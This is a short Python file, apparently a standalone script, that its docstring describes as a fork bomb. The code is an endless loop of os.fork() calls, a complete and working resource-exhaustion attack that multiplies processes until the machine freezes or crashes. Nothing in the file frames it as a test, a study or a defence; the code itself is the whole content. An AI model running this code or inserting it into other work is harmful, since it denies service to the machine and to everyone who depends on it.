"""A fork bomb: every process makes processes, as long as there is room for one more."""

import os

while True:
    os.fork()
